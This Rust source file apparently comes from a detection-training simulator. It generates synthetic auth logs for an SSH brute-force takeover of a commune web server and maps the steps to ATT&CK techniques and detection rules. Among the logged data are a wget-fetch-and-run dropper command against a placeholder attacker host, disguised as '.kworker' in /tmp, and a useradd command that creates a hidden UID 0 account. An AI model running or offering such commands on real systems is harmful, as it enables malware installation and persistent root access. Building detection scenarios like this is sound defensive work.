//! SSH password guessing against a commune's Linux web server, then a foothold as root.

use rand::rngs::StdRng;
use rand::Rng;

use super::{Scene, Story};
use crate::linux::{Daemon, SshClient};

pub(super) const STORY: Story = Story {
    id: "ssh-brute-force",
    title_vi: "Dò mật khẩu SSH và chiếm máy chủ web của xã",
    title_en: "SSH brute force and takeover of a commune web server",
    summary_vi: "Một máy từ Internet dò mật khẩu SSH trên máy chủ web Linux của UBND xã, đăng nhập được bằng tài khoản quản trị có mật khẩu yếu, dùng sudo tải và chạy mã độc trong /tmp rồi tạo tài khoản UID 0 để quay lại.",
    summary_en: "An Internet host guesses SSH passwords on the commune's Linux web server, gets in with a weak admin password, uses sudo to download and run malware from /tmp, and adds a UID 0 account to come back.",
    techniques: &["T1110.001", "T1078", "T1105", "T1059.004", "T1136.001"],
    rule_ids: &[
        "0ac15ec3-d24f-4246-aa2a-3077bb1cf90e", // Privileged User Has Been Created
        "2aa1440c-9ae9-4d92-84a7-a9e5f5e31695", // Suspicious Activity in Shell Commands
    ],
    agency_slot: 5,
    starts_around: (3, 5),
    play,
};

/// User names a brute-forcing bot tries, in order; `root` and `quantri` exist on the server.
const GUESSES: &[&str] = &[
    "root", "root", "admin", "ubuntu", "root", "test", "oracle", "postgres", "git", "root", "user",
    "ftpuser", "www", "root", "deploy", "quantri", "root", "admin", "quantri", "root",
];

/// The admin account whose weak password falls, and its uid.
const VICTIM: (&str, u32) = ("quantri", 1000);

fn daemon(program: &'static str, rng: &mut StdRng) -> Daemon {
    Daemon {
        program,
        pid: rng.random_range(20_000..60_000),
    }
}

fn play(scene: &mut Scene<'_>) {
    let site = scene.site;
    let server = &site.web;
    let attacker = scene.attacker_ip([192, 0, 2]);
    let client = |user, rng: &mut StdRng| SshClient {
        user,
        ip: attacker,
        port: rng.random_range(32_768..60_999),
    };

    for _ in 0..3 {
        for &user in GUESSES {
            let at = scene.wait(3);
            let (sshd, client) = (daemon("sshd", &mut scene.rng), client(user, &mut scene.rng));
            scene
                .timeline
                .ssh_failed(at, server, sshd, client, matches!(user, "root" | "quantri"));
        }
    }
    let (user, uid) = VICTIM;
    let session = daemon("sshd", &mut scene.rng);
    let at = scene.wait(20);
    let victim = client(user, &mut scene.rng);
    scene
        .timeline
        .ssh_accepted(at, server, session, victim, "password", uid);

    // A dropper run as root from /tmp, then a second root account for later.
    let at = scene.wait(50);
    let dropper = format!(
        "/usr/bin/bash -c cd /tmp; wget http://{attacker}/bins/x86_64 -O .kworker; chmod +x .kworker; ./.kworker"
    );
    scene.timeline.sudo(
        at,
        server,
        daemon("sudo", &mut scene.rng),
        user,
        uid,
        &dropper,
    );
    let at = scene.wait(40);
    let sudo = daemon("sudo", &mut scene.rng);
    let useradd = "/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadmin";
    scene.timeline.sudo(at, server, sudo, user, uid, useradd);
    let added =
        "new user: name=sysadmin, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0";
    scene.timeline.auth_line(
        at,
        server,
        Daemon {
            program: "useradd",
            pid: sudo.pid + 1,
        },
        added,
    );
    let at = scene.wait(15);
    let changed = "pam_unix(passwd:chauthtok): password changed for sysadmin";
    scene.timeline.auth_line(
        at,
        server,
        Daemon {
            program: "passwd",
            pid: sudo.pid + 4,
        },
        changed,
    );
    let at = scene.wait(30);
    let closed = format!("pam_unix(sshd:session): session closed for user {user}");
    scene.timeline.auth_line(at, server, session, &closed);
}
